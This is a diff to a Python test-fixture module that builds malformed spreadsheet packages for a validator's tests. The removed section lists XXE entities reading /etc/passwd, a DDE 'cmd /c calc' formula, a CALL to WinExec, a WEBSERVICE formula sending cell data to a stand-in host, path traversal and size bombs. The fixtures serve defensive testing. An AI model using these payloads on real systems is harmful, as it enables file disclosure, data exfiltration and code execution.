@@ -1,4 +1,4 @@
-"""Files of other kinds, packages that lie, and XML that hurts: name → (bytes, the code that refuses it)."""
+"""Files of other kinds and packages that lie: name → (bytes, the code that refuses it)."""
 
 from __future__ import annotations
 
@@ -7,9 +7,8 @@ import io
 import tarfile
 import warnings
 import zipfile
-from collections.abc import Callable
 
-from tests.services.spreadsheets.samples import SHEET_PARTS, changed, packed, parts_of
+from tests.services.spreadsheets.samples import SHEET_PARTS, packed, parts_of
 
 Hostile = dict[str, tuple[bytes, str]]
 
@@ -17,7 +16,6 @@ _ACTIVITY = SHEET_PARTS["活動量"]
 _BOOK = "xl/workbook.xml"
 _RELATIONS = "xl/_rels/workbook.xml.rels"
 _TYPES = "[Content_Types].xml"
-_LAST = "XFD1048576"
 
 
 def other_kinds(good: bytes) -> Hostile:
@@ -138,147 +136,4 @@ def packages(good: bytes) -> Hostile:
             packed({**parts, "xl/media/a.zip": nested, "xl/media/b": b"\0" * 3_000_000}),
             "package_bomb",
         ),
-    }
-
-
-def _many(element: str) -> str:
-    """70,000 of ``element``, no two alike, so that they do not pack too well."""
-    return "".join(element.format(n * n * 7919 % 10_000_019) for n in range(70_000))
-
-
-def _after_declaration(extra: str) -> Callable[[str], str]:
-    return lambda xml: xml.replace("?>", f"?>{extra}", 1) if xml.startswith("<?xml") else extra + xml
-
-
-def documents(good: bytes) -> Hostile:
-    """XML that declares, repeats, nests or encodes what it must not."""
-    parts = parts_of(good)
-    sheet = parts[_ACTIVITY].decode()
-    start = sheet.index("<worksheet")
-    bare = sheet[start:]
-
-    def declared(encoding: str, codec: str) -> bytes:
-        text = f'<?xml version="1.0" encoding="{encoding}"?>{bare}'
-        return packed({**parts, _ACTIVITY: text.encode(codec, "replace")})
-
-    def doctype(inside: str, part: str = _ACTIVITY) -> tuple[bytes, str]:
-        return changed(good, part, _after_declaration(f"<!DOCTYPE x {inside}>")), "xml_entities"
-
-    def put(extra: str, before: str = "</sheetData>") -> bytes:
-        return changed(good, _ACTIVITY, lambda xml: xml.replace(before, extra + before, 1))
-
-    def linked(kind: str, target: str) -> bytes:
-        base = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
-        extra = f'<Relationship Id="rX" Type="{base}{kind}" Target="{target}" TargetMode="External"/>'
-        return changed(
-            good, _RELATIONS, lambda xml: xml.replace("</Relationships>", extra + "</Relationships>")
-        )
-
-    def formula(text: str) -> bytes:
-        return put(f'<row r="99"><c r="A99"><f>{text}</f><v>1</v></c></row>')
-
-    def before(end: str, extra: str, part: str = _BOOK) -> bytes:
-        return changed(good, part, lambda xml: xml.replace(end, extra + end, 1))
-
-    styles = "xl/styles.xml"
-    columns = "<cols>" + _many('<col min="1" max="2" width="{}"/>') + "</cols>"
-    endless = b"<sst><si><t>" + b"a" * 15_000_000 + b"</t></si></sst>"
-    asks = '<dataValidation type="list" sqref="A99"><formula1>[1]S!A1</formula1></dataValidation>'
-    return {
-        "entity from a file": doctype('[<!ENTITY a SYSTEM "file:///etc/passwd">]'),
-        "entity from the network": doctype('[<!ENTITY a SYSTEM "http://192.0.2.1/">]'),
-        "parameter entity": doctype('[<!ENTITY % a SYSTEM "http://192.0.2.1/"> %a;]'),
-        "external subset": doctype('SYSTEM "http://192.0.2.1/x.dtd"'),
-        "entities in the relations": doctype('[<!ENTITY a "b">]', _RELATIONS),
-        "entities in the content types": doctype('[<!ENTITY a "b">]', _TYPES),
-        "entities in the properties": doctype('[<!ENTITY a "b">]', "docProps/core.xml"),
-        "utf-16 without a mark": (declared("UTF-16BE", "utf-16-be"), "xml_encoding"),
-        "utf-32": (declared("UTF-32", "utf-32"), "xml_encoding"),
-        "shift-jis": (declared("Shift_JIS", "cp932"), "xml_encoding"),
-        "latin-1": (
-            packed({**parts, _ACTIVITY: f'<?xml version="1.0" encoding="ISO-8859-1"?>{bare}'.encode()}),
-            "xml_encoding",
-        ),
-        "said to be utf-8 and is not": (
-            packed({**parts, _ACTIVITY: sheet.encode("cp932", "replace")}),
-            "package_broken",
-        ),
-        "zero byte": (packed({**parts, _ACTIVITY: sheet.encode() + b"\0"}), "xml_encoding"),
-        "empty part": (packed({**parts, _ACTIVITY: b""}), "package_broken"),
-        "two roots": (packed({**parts, _ACTIVITY: sheet.encode() + b"<worksheet/>"}), "package_broken"),
-        "unbound prefix": (put("<x:row/>"), "package_broken"),
-        "deep nesting in the styles": (
-            before("</styleSheet>", "<a>" * 99 + "</a>" * 99, styles),
-            "too_much_content",
-        ),
-        "attribute without end": (put(f'<row r="99" x="{"y" * 30_000}"/>'), "too_much_content"),
-        "many styles": (
-            before("</cellXfs>", _many('<xf numFmtId="{}"/>'), styles),
-            "too_much_content",
-        ),
-        "many columns": (before("<sheetData", columns, _ACTIVITY), "too_much_content"),
-        "shared string bomb": (
-            packed({**parts, "xl/sharedStrings.xml": f"<sst>{_many('<si><t>{}</t></si>')}</sst>".encode()}),
-            "too_much_content",
-        ),
-        "one endless shared string": (packed({**parts, "xl/sharedStrings.xml": endless}), "package_bomb"),
-        "column beyond the form": (put('<row r="99"><c r="XFD99"/></row>'), "cell_out_of_range"),
-        "row beyond the form": (put('<row r="1048576"><c><v>1</v></c></row>'), "cell_out_of_range"),
-        "row in scientific notation": (put('<row r="1e6"><c><v>1</v></c></row>'), "package_broken"),
-        "negative row": (put('<row r="-1"><c/></row>'), "package_broken"),
-        "cells without end in a row": (put('<row r="99">' + "<c/>" * 300 + "</row>"), "cell_out_of_range"),
-        "shared formula over everything": (
-            put(f'<row r="99"><c r="A99"><f t="shared" ref="A1:{_LAST}" si="0">1</f><v>1</v></c></row>'),
-            "cell_out_of_range",
-        ),
-        "array formula over everything": (
-            put(f'<row r="99"><c r="A99"><f t="array" ref="A1:{_LAST}">1</f><v>1</v></c></row>'),
-            "cell_out_of_range",
-        ),
-        "filter over everything": (
-            put(f'<autoFilter ref="A1:{_LAST}"/>', "<pageMargins"),
-            "cell_out_of_range",
-        ),
-        "area written backwards": (
-            put("<mergeCells>" + '<mergeCell ref="GR1990:A100"/>' * 3 + "</mergeCells>", "<pageMargins"),
-            "too_much_content",
-        ),
-        "picture from the network": (linked("image", "http://192.0.2.1/x.png"), "external_links"),
-        "template from the network": (linked("attachedTemplate", "file://192.0.2.1/x"), "external_links"),
-        "object from the network": (linked("oleObject", "http://192.0.2.1/x"), "external_links"),
-        "dde in a cell": (formula("cmd|'/c calc'!A0"), "external_links"),
-        "cell of another workbook": (formula("[1]Sheet1!A1"), "external_links"),
-        "cell of a file by path": (formula("'C:\\x\\[a.xlsx]S'!A1"), "external_links"),
-        "web service": (formula('WEBSERVICE("http://192.0.2.1/"&amp;A1)'), "external_links"),
-        "real-time data": (formula('RTD("x",,"y")'), "external_links"),
-        "picture function": (formula('_xlfn.IMAGE("http://192.0.2.1/x.png")'), "external_links"),
-        "call into a library": (formula('CALL("kernel32","WinExec","JCJ","calc",0)'), "external_links"),
-        "name of another workbook": (
-            before("</definedNames>", '<definedName name="x">[1]S!A1</definedName>'),
-            "external_links",
-        ),
-        "validation that asks elsewhere": (
-            put(f"<dataValidations>{asks}</dataValidations>", "<pageMargins"),
-            "external_links",
-        ),
-        "style that is no number": (
-            changed(good, _ACTIVITY, lambda xml: xml.replace('s="10"', 's="ten"')),
-            "package_broken",
-        ),
-        "text index below zero": (
-            put('<row r="99"><c r="A99" t="s"><v>-9999999</v></c></row>'),
-            "package_broken",
-        ),
-        "number that is none": (put('<row r="99"><c r="A99"><v>twelve</v></c></row>'), "package_broken"),
-        "sheets in a circle": (
-            changed(good, _RELATIONS, lambda xml: xml.replace("worksheets/sheet3.xml", "workbook.xml")),
-            "layout_changed",
-        ),
-        "relation upwards": (
-            changed(
-                good, _RELATIONS, lambda xml: xml.replace("worksheets/sheet3.xml", "../../../etc/passwd")
-            ),
-            "sheet_missing",
-        ),
-        "workbook of another kind": (packed({**parts, _BOOK: b"<html/>"}), "sheet_missing"),
     }
